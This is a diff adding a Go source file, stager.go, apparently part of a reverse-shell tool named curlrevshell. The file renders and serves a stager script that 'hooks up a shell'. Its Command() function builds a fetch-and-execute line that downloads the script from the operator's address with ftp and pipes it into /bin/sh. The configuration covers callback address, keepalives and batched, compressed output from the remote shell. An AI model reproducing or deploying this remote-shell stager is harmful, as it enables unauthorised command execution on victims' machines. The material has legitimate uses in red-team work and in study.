@@ -0,0 +1,155 @@
+package main
+
+/*
+ * stager.go
+ * Serve the script which hooks up a shell
+ * By J. Stuart McMurray
+ * Created 20261018
+ * Last Modified 20261018
+ */
+
+import (
+	"crypto/rand"
+	_ "embed"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"regexp"
+	"strconv"
+	"strings"
+	"text/template"
+	"time"
+)
+
+// StagerPath is the URL path from which the stager is served.  With a secret,
+// it's followed by the token for StagerPath itself, as if it were an ID.
+const StagerPath = "/c"
+
+// Stager defaults.
+const (
+	DefaultStagerCAFile    = "/etc/ssl/crs_cert.pem"
+	DefaultStagerKeepAlive = 5 * time.Second
+)
+
+// ftpCommand is how shells run ftp(1), the same as the ftp subtemplate in
+// crs.tmpl.m4, with verbs for the output file and the CA file.  Use
+// ftpWithArgs to fill them in.
+const ftpCommand = "ftp -M -o%s -S cafile=%s -V -w 15"
+
+// stagerTmplText is the stager's template, generated from the same source as
+// crs.tmpl.  Regenerating it needs m4(1).
+//
+//go:generate sh -c "m4 -PEE -I ../../.. stager.tmpl.m4 >stager.tmpl"
+//go:embed stager.tmpl
+var stagerTmplText string
+
+// stagerTmpl is the parsed stagerTmplText.
+var stagerTmpl = template.Must(template.New("stager").Parse(stagerTmplText))
+
+// StagerConfig configures the stager.
+type StagerConfig struct {
+	// Addr is our address, as shells should call back to it.
+	Addr string
+	// CAFile is the path on the installer to a file with our TLS
+	// certificate.
+	CAFile string
+	// InputURL is curlrevshell's URL for input, to which the ID is
+	// appended, or the empty string to have shells poll us for input.
+	InputURL string
+	// KeepAlive is how often shells send keepalives.  It's rounded to the
+	// second.
+	KeepAlive time.Duration
+	// BatchWait is how long shells accumulate output lines before sending
+	// them in batches, or 0 to send lines one at a time.  It's rounded to
+	// the second.
+	BatchWait time.Duration
+	// Compress compresses batches, if shells have the tools.
+	Compress bool
+}
+
+// stagerData is what's passed to stagerTmpl.
+type stagerData struct {
+	StagerConfig
+	ID            string
+	Auth          string /* Token path element, or empty. */
+	FTP           string /* ftpCommand, writing to stdout. */
+	KeepAliveSecs int
+	BatchWaitSecs int
+}
+
+// Stager renders the script which hooks up a shell, each time with a new ID.
+type Stager struct {
+	conf   StagerConfig
+	secret []byte
+}
+
+// NewStager returns a new Stager which renders scripts with conf.  If secret
+// isn't empty, the scripts will authenticate their IDs with tokens.
+func NewStager(conf StagerConfig, secret []byte) *Stager {
+	return &Stager{conf: conf, secret: secret}
+}
+
+// Path returns the URL path from which the stager should be fetched.
+func (s *Stager) Path() string {
+	if 0 == len(s.secret) {
+		return StagerPath
+	}
+	return StagerPath + "/" + SessionToken(s.secret, StagerPath)
+}
+
+// Command returns a command which gets a shell.
+func (s *Stager) Command() string {
+	return fmt.Sprintf(
+		"%s %s | /bin/sh",
+		ftpWithArgs("-", s.conf.CAFile),
+		shellQuote("https://"+s.conf.Addr+s.Path()),
+	)
+}
+
+// Render writes a script for a new shell to w and returns the new shell's
+// ID.
+func (s *Stager) Render(w io.Writer) (string, error) {
+	d := stagerData{
+		StagerConfig:  s.conf,
+		ID:            newSessionID(),
+		FTP:           ftpWithArgs("-", s.conf.CAFile),
+		KeepAliveSecs: max(1, seconds(s.conf.KeepAlive)),
+		BatchWaitSecs: seconds(s.conf.BatchWait),
+	}
+	if 0 != len(s.secret) {
+		d.Auth = "/" + SessionToken(s.secret, d.ID)
+	}
+	if err := stagerTmpl.Execute(w, d); nil != err {
+		return "", err
+	}
+	return d.ID, nil
+}
+
+// ftpWithArgs returns ftpCommand with the output file out and the CA file
+// cafile, quoted as needed.
+func ftpWithArgs(out, cafile string) string {
+	return fmt.Sprintf(ftpCommand, shellQuote(out), shellQuote(cafile))
+}
+
+// shellSafe matches strings which don't need quoting in the shell.
+var shellSafe = regexp.MustCompile(`^[-%+,./0-9:=@A-Z_a-z]+$`)
+
+// shellQuote single-quotes s for the shell, unless it doesn't need it.
+func shellQuote(s string) string {
+	if shellSafe.MatchString(s) {
+		return s
+	}
+	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
+}
+
+// seconds returns d in seconds, rounded.
+func seconds(d time.Duration) int {
+	return int(d.Round(time.Second) / time.Second)
+}
+
+// newSessionID returns a new random session ID.
+func newSessionID() string {
+	var b [8]byte
+	rand.Read(b[:])
+	return strconv.FormatUint(binary.BigEndian.Uint64(b[:]), 36)
+}